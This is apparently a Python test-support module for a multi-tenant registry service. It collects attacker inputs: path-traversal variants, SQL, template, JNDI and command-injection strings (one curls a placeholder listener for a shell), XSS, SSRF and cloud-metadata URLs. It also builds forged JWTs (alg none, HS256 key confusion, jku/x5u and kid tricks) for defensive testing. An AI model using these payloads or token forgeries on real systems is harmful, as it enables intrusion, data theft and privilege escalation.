"""What attackers put where a value is expected, and forged access tokens. No requests, no assertions."""

from __future__ import annotations

import json
import time
from typing import Any

import jwt
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey, Ed25519PublicKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jwt.algorithms import OKPAlgorithm

from tests.support.oidc_server import forged

# ways out of a folder, as they stand in a URL; {0} is another tenant's id
CLIMBS = (
    "..%2F{0}",
    "%2e%2e%2f{0}",
    "%252e%252e%252f{0}",
    "..%5C{0}",
    "....%2F%2F{0}",
    "%2F{0}",
    "{0}%00",
    "{0}%0d%0aX-Tenant-ID:%20{0}",
    "..;%2F{0}",
    "%C0%AE%C0%AE%2F{0}",
    "%EF%BC%8E%EF%BC%8E%2F{0}",
)
INJECTIONS = (
    "' OR '1'='1",
    '" OR ""="',
    "1; DROP TABLE registry_tenants;--",
    "' UNION SELECT key_digest, 2, 3 FROM registry_keys --",
    "' AND tenant_id != '' OR tenant_id LIKE '%",
    "{tenant_id:Identifier}",
    "url('@URL@/sql', 'CSV')",
    "{{1103*1103}}${1103*1103}<%= 1103*1103 %>#{1103*1103}",
    "{{ config.__class__.__init__.__globals__ }}",
    "${jndi:ldap://@HOST@/a}",
    "%s%s%n{0.__class__}",
    "$(curl @URL@/shell)`curl @URL@/shell`|curl @URL@/shell",
    "<script>fetch('@URL@/x')</script>",
    '=HYPERLINK("@URL@/cell")',
    "@URL@/ssrf",
    "file:///etc/passwd",
    "gopher://@HOST@/_x",
    "http://169.254.169.254/latest/meta-data/",
    "a\r\nX-Injected: 1",
    "\x00",
    "\ud7ff\u202e\ufeff",
    "../" * 12 + "etc/passwd",
    "A" * 5000,
)
RENDERED = b"1216609"  # what a template would make of the one above
HUGE_NUMBERS = ("1000000000000", "-1", "9" * 400, "1e309", "NaN", "0x10", "１")


def injections(url: str) -> list[str]:
    """The injections, with the address of a listener that nobody should ever ask."""
    return [text.replace("@URL@", url).replace("@HOST@", url.removeprefix("http://")) for text in INJECTIONS]


def forged_access_tokens(
    token: str, private_keys: dict[str, Any], victim_id: str, url: str
) -> dict[str, str]:
    """Tokens with the claims of a good one made stronger; also ones that the issuer's own key signed wrongly.

    The latter are more than an attacker can make: what is not of this issuer, for this audience and of now must
    be refused even so.
    """
    claims = jwt.decode(token, options={"verify_signature": False})
    stronger = claims | {"roles": ["platform_admin"], "tenant_roles": {victim_id: ["tenant_admin"]}}
    jwk = private_keys["keys"][-1]
    kid = jwk["kid"]
    issuer_key = OKPAlgorithm.from_jwk(jwk)
    assert isinstance(issuer_key, Ed25519PrivateKey)
    public = issuer_key.public_key()
    body, signature = token.rsplit(".", 1)
    head = body.split(".")[0]
    own_rsa = rsa.generate_private_key(65537, 2048)
    own_ed = Ed25519PrivateKey.generate()
    own_jwk = OKPAlgorithm.to_jwk(own_ed.public_key(), as_dict=True)
    now_s = int(time.time())

    def signed(changed: dict[str, Any]) -> str:
        good = {name: value for name, value in (claims | changed).items() if value is not None}
        return jwt.encode(good, issuer_key, "EdDSA", headers={"kid": kid})

    def own(**header: Any) -> str:
        return jwt.encode(stronger, own_ed, "EdDSA", headers={"kid": kid} | header)

    return {
        **{
            f"alg {name}": forged({"alg": name, "kid": kid}, stronger, None)
            for name in ("none", "None", "NONE", "")
        },
        **{
            f"HS256 with the public key as {name}": forged({"alg": "HS256", "kid": kid}, stronger, secret)
            for name, secret in public_forms(public).items()
        },
        "other claims under the old signature": f"{head}.{forged({}, stronger, None).split('.')[1]}.{signature}",
        "signature cut off": f"{body}.",
        "RS256 of one's own": jwt.encode(stronger, own_rsa, "RS256", headers={"kid": kid}),
        "EdDSA of one's own": own(),
        "kid climbs out": own(kid="../../../../dev/null"),
        "kid with SQL": own(kid="x' UNION SELECT 'secret' --"),
        "kid of another kind": forged({"alg": "EdDSA", "kid": ["x"]}, stronger, b""),
        "jwk in the header": own(jwk=own_jwk),
        "jku": own(jku=f"{url}/jku"),
        "x5u": own(x5u=f"{url}/x5u", x5c=["MIIB"]),
        "crit": own(crit=["exp"]),
        "expired": signed({"iat": now_s - 7200, "exp": now_s - 3600}),
        "not yet": signed({"nbf": now_s + 3600}),
        "never expires": signed({"exp": None}),
        "another issuer": signed({"iss": f"{url}/issuer"}),
        "another audience": signed({"aud": "somebody-else"}),
        "no subject": signed({"sub": None}),
        "not a token": "e30.e30.e30",
    }


def public_forms(public: Ed25519PublicKey) -> dict[str, bytes]:
    """What a careless verifier might take a public key for, as an HMAC secret."""
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    return {
        "PEM": pem,
        "PEM without its last line break": pem.rstrip(),
        "DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "raw bytes": public.public_bytes(Encoding.Raw, PublicFormat.Raw),
        "JWK": json.dumps(OKPAlgorithm.to_jwk(public, as_dict=True)).encode(),
    }
